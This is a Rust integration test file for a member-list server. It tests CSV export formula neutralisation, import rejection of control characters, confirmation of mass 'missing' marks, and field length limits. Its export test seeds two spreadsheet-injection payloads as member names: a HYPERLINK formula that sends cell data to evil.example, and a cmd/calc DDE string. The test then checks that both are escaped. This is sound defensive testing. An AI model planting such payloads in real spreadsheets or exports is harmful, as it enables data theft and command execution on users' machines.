//! Import and export hardening through a real server on loopback: formula cells in the API
//! export, control characters and mass "missing" in API and page imports, capped problems on
//! the page, and the length and character limits on every form and JSON field.

use reqwest::{Method, StatusCode};
use serde_json::{Value, json};
use shopfloor_node::domain::members::{self, ListFields};

use crate::util::{ADMIN_PASSWORD, count};
use crate::web::{Server, Session, login};

const HEADER: &str = "actionkit_id,first_name,last_name,email,membership_status";

fn list_of(n: u32) -> String {
    let mut s = format!("{HEADER}\r\n");
    for i in 1..=n {
        s.push_str(&format!("{i},First{i},Last{i},m{i}@example.org,Member\r\n"));
    }
    s
}

async fn post_import(s: &Session, server: &Server, query: &str, body: &str) -> reqwest::Response {
    s.client
        .post(server.url(&format!("/api/v1/import{query}")))
        .header("x-csrf-token", &s.csrf)
        .header("content-type", "text/csv")
        .body(body.to_owned())
        .send()
        .await
        .unwrap()
}

async fn upload(s: &Session, server: &Server, body: Vec<u8>) -> (StatusCode, String) {
    let form = reqwest::multipart::Form::new()
        .text("csrf", s.csrf.clone())
        .text("format", "national")
        .part(
            "file",
            reqwest::multipart::Part::bytes(body).file_name("list.csv"),
        );
    let r = s
        .client
        .post(server.url("/import"))
        .header("accept", "text/html")
        .multipart(form)
        .send()
        .await
        .unwrap();
    (r.status(), r.text().await.unwrap())
}

async fn set_spanish(s: &Session, server: &Server) {
    let r = s
        .client
        .post(server.url("/language"))
        .form(&[("csrf", s.csrf.as_str()), ("lang", "es"), ("next", "/")])
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), StatusCode::SEE_OTHER);
}

fn token_of(html: &str) -> String {
    html.split("name=\"token\" value=\"")
        .nth(1)
        .and_then(|t| t.split('"').next())
        .unwrap()
        .to_owned()
}

#[tokio::test]
async fn api_export_neutralizes_formula_cells() {
    let server = Server::start().await;
    server
        .store
        .write(|tx| {
            members::create(
                tx,
                &ListFields {
                    actionkit_id: Some("7".into()),
                    first_name: "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"x\")".into(),
                    last_name: "+1+cmd|' /C calc'!A0".into(),
                    mobile_phone: "+1 919 555 0101".into(),
                    ..ListFields::default()
                },
            )
        })
        .unwrap();
    let admin = login(&server, "admin", ADMIN_PASSWORD).await;
    let r = admin
        .send(Method::GET, &server.url("/api/v1/export/members"), None)
        .await;
    assert_eq!(r.status(), 200);
    let body = r.text().await.unwrap();
    let rows: Vec<Vec<String>> = csv::Reader::from_reader(body.as_bytes())
        .records()
        .map(|r| r.unwrap().iter().map(str::to_owned).collect())
        .collect();
    let row = &rows[0];
    assert_eq!(row[1], "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"x\")");
    assert_eq!(row[3], "'+1+cmd|' /C calc'!A0");
    assert_eq!(row[5], "'+1 919 555 0101");
    assert!(
        row.iter().all(|c| !c.starts_with(['=', '+', '-', '@'])),
        "{row:?}"
    );
}

#[tokio::test]
async fn api_import_refuses_control_characters_and_asks_to_confirm_mass_missing() {
    let server = Server::start().await;
    let admin = login(&server, "admin", ADMIN_PASSWORD).await;
    // A NUL in a name, in a dry run: refused with its physical line (CRLF file).
    let bad =
        format!("{HEADER}\r\n1,Ana,A,a@example.org,Member\r\n2,B\0b,B,b@example.org,Member\r\n");
    let r = post_import(&admin, &server, "?dry_run=true", &bad).await;
    assert_eq!(r.status(), 422);
    let v: Value = r.json().await.unwrap();
    assert_eq!(v["error"], "import_refused");
    assert_eq!(v["problems"][0]["line"], 3);
    assert_eq!(v["problems"][0]["kind"], "control-character");
    assert_eq!(v["more_problems"], 0);
    // A header-only list is refused.
    let r = post_import(&admin, &server, "", &format!("{HEADER}\r\n")).await;
    assert_eq!(r.status(), 422);
    assert_eq!(
        r.json::<Value>().await.unwrap()["problems"][0]["kind"],
        "no-rows"
    );

    assert_eq!(
        post_import(&admin, &server, "", &list_of(100))
            .await
            .status(),
        200
    );
    let present = "SELECT count(*) FROM members WHERE list_status = 'present'";
    // 60 of 100 would go missing: the dry run says so, the import needs confirm=true.
    let r = post_import(&admin, &server, "?dry_run=true", &list_of(40)).await;
    let v: Value = r.json().await.unwrap();
    assert_eq!(
        (v["marked_missing"].as_u64(), v["present_before"].as_u64()),
        (Some(60), Some(100))
    );
    assert_eq!(v["needs_confirmation"], true);
    let r = post_import(&admin, &server, "", &list_of(40)).await;
    assert_eq!(r.status(), 409);
    let v: Value = r.json().await.unwrap();
    assert!(
        v["message"].as_str().unwrap().contains("60 of the 100"),
        "{v}"
    );
    assert_eq!(count(&server.store, present), 100);
    let r = post_import(&admin, &server, "?confirm=true", &list_of(40)).await;
    assert_eq!(r.status(), 200);
    assert_eq!(count(&server.store, present), 40);
}

#[tokio::test]
async fn import_page_asks_to_confirm_how_many_go_missing() {
    let server = Server::start().await;
    let admin = login(&server, "admin", ADMIN_PASSWORD).await;
    set_spanish(&admin, &server).await;
    let (status, html) = upload(&admin, &server, list_of(50).into_bytes()).await;
    assert_eq!(status, StatusCode::OK);
    let r = admin
        .client
        .post(server.url("/import/confirm"))
        .form(&[
            ("csrf", admin.csrf.as_str()),
            ("token", token_of(&html).as_str()),
        ])
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), StatusCode::OK);
    let present = "SELECT count(*) FROM members WHERE list_status = 'present'";
    assert_eq!(count(&server.store, present), 50);

    let (status, html) = upload(&admin, &server, list_of(10).into_bytes()).await;
    assert_eq!(status, StatusCode::OK);
    assert!(
        html.contains("marcaría como ausentes a 40 de los 50 miembros"),
        "{html}"
    );
    assert!(html.contains("name=\"confirm_missing\""), "{html}");
    // Confirming without ticking the box changes nothing and says why.
    let r = admin
        .client
        .post(server.url("/import/confirm"))
        .form(&[
            ("csrf", admin.csrf.as_str()),
            ("token", token_of(&html).as_str()),
        ])
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), StatusCode::CONFLICT);
    let text = r.text().await.unwrap();
    assert!(text.contains("no se confirmó"), "{text}");
    assert_eq!(count(&server.store, present), 50);
    // Ticked: imported.
    let (_, html) = upload(&admin, &server, list_of(10).into_bytes()).await;
    let r = admin
        .client
        .post(server.url("/import/confirm"))
        .form(&[
            ("csrf", admin.csrf.as_str()),
            ("token", token_of(&html).as_str()),
            ("confirm_missing", "1"),
        ])
        .send()
        .await
        .unwrap();
    assert_eq!(r.status(), StatusCode::OK);
    assert_eq!(count(&server.store, present), 10);
}

#[tokio::test]
async fn import_page_lists_fifty_problems_and_counts_the_rest() {
    let server = Server::start().await;
    let admin = login(&server, "admin", ADMIN_PASSWORD).await;
    let mut wide = String::from(HEADER);
    for i in 0..1_000 {
        wide.push_str(&format!(",c{i}"));
    }
    wide.push_str("\n1,A,B,a@example.org,Member\n");
    let (status, html) = upload(&admin, &server, wide.into_bytes()).await;
    assert_eq!(status, StatusCode::UNPROCESSABLE_ENTITY);
    assert_eq!(
        html.matches("<td class=\"num\">1</td>").count(),
        50,
        "{html}"
    );
    assert!(html.contains("The list has 1,000 problems"), "{html}");
    assert!(
        html.contains("950 more problems, not listed here"),
        "{html}"
    );
}

#[tokio::test]
async fn form_and_json_text_fields_are_limited() {
    let server = Server::start().await;
    let admin = login(&server, "admin", ADMIN_PASSWORD).await;
    let workplaces = "SELECT count(*) FROM workplaces";
    // JSON: a name over 200 characters, a NUL in a one-line field.
    for employer in ["x".repeat(201), "Acme\0Corp".to_owned()] {
        let r = admin
            .send(
                Method::POST,
                &server.url("/api/v1/workplaces"),
                Some(&json!({"employer": employer, "state": "NC"})),
            )
            .await;
        assert_eq!(r.status(), 422);
        let v: Value = r.json().await.unwrap();
        assert_eq!(
            (v["error"].as_str(), v["field"].as_str()),
            (Some("invalid"), Some("employer"))
        );
    }
    assert_eq!(count(&server.store, workplaces), 0);
    // A stage note may have several lines; 200 characters of it are fine.
    let r = admin
        .send(
            Method::POST,
            &server.url("/api/v1/workplaces"),
            Some(&json!({"employer": "é".repeat(200), "state": "NC"})),
        )
        .await;
    assert!(r.status().is_success(), "{}", r.text().await.unwrap());

    // A page form, in Spanish: the message is in the page's language; nothing is saved.
    set_spanish(&admin, &server).await;
    let long = "n".repeat(201);
    for (field, value) in [("first_name", long.as_str()), ("email", "a@b.org\u{0}")] {
        let mut form = vec![
            ("csrf", admin.csrf.as_str()),
            ("first_name", "Ana"),
            ("last_name", "B"),
        ];
        form.retain(|(k, _)| *k != field);
        form.push((field, value));
        let r = admin
            .client
            .post(server.url("/members/new"))
            .header("accept", "text/html")
            .form(&form)
            .send()
            .await
            .unwrap();
        assert_eq!(r.status(), StatusCode::UNPROCESSABLE_ENTITY);
        let html = r.text().await.unwrap();
        assert!(html.contains("<html lang=\"es\">"), "{html}");
        let expected = if field == "email" {
            "contiene un carácter de control"
        } else {
            "puede tener como máximo 200 caracteres"
        };
        assert!(html.contains(expected), "{html}");
        assert!(!html.contains("err-text"), "{html}");
    }
    assert_eq!(count(&server.store, "SELECT count(*) FROM members"), 0);
}
